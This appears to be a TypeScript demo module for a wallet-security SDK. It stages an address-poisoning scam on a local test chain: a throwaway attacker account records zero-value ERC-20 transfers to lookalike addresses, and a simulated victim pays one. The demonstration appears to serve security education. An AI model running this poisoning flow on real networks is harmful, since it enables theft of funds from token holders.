import { craftLookalike } from '@holdfast/sdk/risk'
import {
  type Account,
  type Address,
  type Client,
  createClient,
  encodeFunctionData,
  erc20Abi,
  getAddress,
  type Hash,
  type Hex,
  http,
  keccak256,
  slice,
  stringToHex,
  type WalletClient,
} from 'viem'
import { generatePrivateKey, type PrivateKeyAccount, privateKeyToAccount } from 'viem/accounts'
import { sendTransaction, waitForTransactionReceipt } from 'viem/actions'
import { fund, fundEmpty } from '../../wallets/burner.js'

/** Bob of the walk: one for each Alice. It has no key, and needs none: what it is paid is looked at, and never spent. */
export function bobOf(alice: Address): Address {
  // Hex with the digits of an address after it.
  return getAddress(slice(keccak256(`${stringToHex('holdfast:walk:bob')}${alice.slice(2).toLowerCase()}` as Hex), 12))
}

/** Zoe of the walk: one for each Alice, with a key that everyone can compute. Her money is of a test chain on this machine. */
export function zoeOf(alice: Address): PrivateKeyAccount {
  // Hex with the digits of an address after it.
  return privateKeyToAccount(keccak256(`${stringToHex('holdfast:walk:zoe')}${alice.slice(2).toLowerCase()}` as Hex))
}

/**
 * What happens to people who pay: Alice pays Bob, and a stranger records a zero-value transfer from her to an address that looks
 * like Bob's. Any account may record one. The same happens to Zoe, whose client has no firewall: she copies the newest row and pays.
 *
 * @param devnet - Base URL, on this machine.
 */
export async function attack(
  devnet: string,
  { usdc, reader, alice }: { usdc: Address; reader: Client; alice: WalletClient },
): Promise<void> {
  const { account, chain = null } = alice
  if (account === undefined) throw new Error('Alice has no account.')
  const clientOf = (own: PrivateKeyAccount) =>
    createClient({ account: own, chain: chain ?? undefined, transport: http(`${devnet}/primary/rpc`) })
  const mallory = privateKeyToAccount(generatePrivateKey())
  const call = async (client: Client, from: Account, data: Hex) =>
    mined(reader, await sendTransaction(client, { account: from, chain, to: usdc, data }))
  const pay = (client: Client, from: Account, to: Address) =>
    call(client, from, encodeFunctionData({ abi: erc20Abi, functionName: 'transfer', args: [to, 5_000_000n] }))
  const bait = async (of: Address) => {
    const lookalike = craftLookalike(bobOf(of))
    const args = [of, lookalike, 0n] as const
    await call(clientOf(mallory), mallory, encodeFunctionData({ abi: erc20Abi, functionName: 'transferFrom', args }))
    return lookalike
  }

  const zoe = zoeOf(account.address)
  // The devnet may have been started again while the page was open.
  await fundEmpty(devnet, account.address)
  await fund(devnet, mallory.address, 1_000_000n)
  await fund(devnet, zoe.address, 20_000_000n)
  await pay(clientOf(zoe), zoe, bobOf(zoe.address))
  await pay(clientOf(zoe), zoe, await bait(zoe.address))

  await pay(alice, account, bobOf(account.address))
  await bait(account.address)
}

async function mined(reader: Client, hash: Hash): Promise<void> {
  const { status } = await waitForTransactionReceipt(reader, { hash })
  if (status !== 'success') throw new Error(`${hash} was undone.`)
}
